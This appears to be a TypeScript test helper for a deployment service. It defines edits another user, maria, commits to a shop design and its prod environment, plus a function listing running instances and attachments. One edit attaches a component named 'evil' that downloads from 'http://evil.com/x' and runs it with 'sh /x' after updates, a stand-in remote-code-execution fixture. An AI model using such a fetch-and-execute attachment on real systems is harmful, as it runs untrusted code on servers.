// What another user, maria, changes and commits next to a stack: in the design, and in its environment prod.
import { NotFound } from '../../api/errors';
import { routes } from '../../api/contract';
import type { World } from './world';
import { PROD } from './shop-spec';

/** A write of hers that she commits; in the dialect `documented` each write of a design was. */
const inDesign =
  (write: (world: World) => Promise<unknown>) =>
  async (world: World): Promise<void> => {
    await write(world);
    await world.maria.commit();
  };

/** A write of hers in the environment, which she commits without a deployment. */
const inProd =
  (write: (world: World) => Promise<unknown>) =>
  async (world: World): Promise<void> => {
    await write(world);
    await world.maria.commitEnvironment();
    world.clock.advance(50_000);
  };

async function attach({ maria, other }: World): Promise<void> {
  const isClassic = (await other.dialect()) === 'classic';
  const events = isClassic ? { run_on: 'after-update', priority: '1' } : { runs_on: 'after-update' };
  await maria.create('web/tomcat/evil', { source: 'http://evil.com/x', path: '/x', exec_cmd: 'sh /x', ...events });
}

async function recreateDb({ maria }: World): Promise<void> {
  await maria.delete('db');
  await maria.commit();
  await maria.create('db', { source: 'oneops', pack: 'tomcat', version: '1' });
}

/** Disables db in prod, and commits it without a deployment. */
export const disableDb = inProd(async ({ maria, clock }) => {
  await maria.switch('disable', 'db');
  clock.advance(60_000);
});

/** Each edit by its name: what a release of it lists. */
export const FOREIGN_EDITS: { readonly [what: string]: (world: World) => Promise<void> } = {
  'an attribute that the pack gave': inDesign(({ maria }) => maria.set('web/tomcat', { max_threads: '999' })),
  'a second attribute': inDesign(({ maria }) => maria.set('web/tomcat', { port: '4444' })),
  'an attachment': inDesign(attach),
  'a platform, deleted and created again': inDesign(recreateDb),
  'a variable': inDesign(({ maria }) => maria.create('$LEVEL', { value: 'debug' })),
  'an attribute in the environment': inProd(({ maria }) => maria.set('prod:web/tomcat', { max_threads: '998' })),
  'a pull without a deployment': inProd(({ maria }) => maria.pull()),
};

/** What runs in prod: each instance, without its number, with its settings; and what was attached to tomcat when it was deployed. */
export async function runningInProd({ api }: World): Promise<readonly string[]> {
  try {
    const query = { instances_state: 'all' };
    const all = await api.call(routes.operations.assemblyInstances, { address: { assembly: 'shop' }, query });
    const attached = await api.call(routes.environmentAttachments.list, {
      address: { ...PROD, platform: 'web', component: 'tomcat' },
    });
    const { created: deployed } = await api.call(routes.deployments.latest, { address: PROD });
    const running = attached.filter(({ created }) => Number(created) <= Number(deployed));
    return [
      ...all.map((each) => `${each.nsPath} ${each.ciName.replace(/-\d+-/, '-')} ${settingsOf(each.ciAttributes)}`),
      ...running.map(({ ciName }) => `attached ${ciName}`),
    ].sort();
  } catch (error) {
    if (error instanceof NotFound) return [];
    throw error;
  }
}

/** Attributes that somebody can set; addresses and names differ in each service. */
const settingsOf = ({ max_threads: threads, port }: { readonly [name: string]: unknown } = {}): string =>
  JSON.stringify({ threads, port });
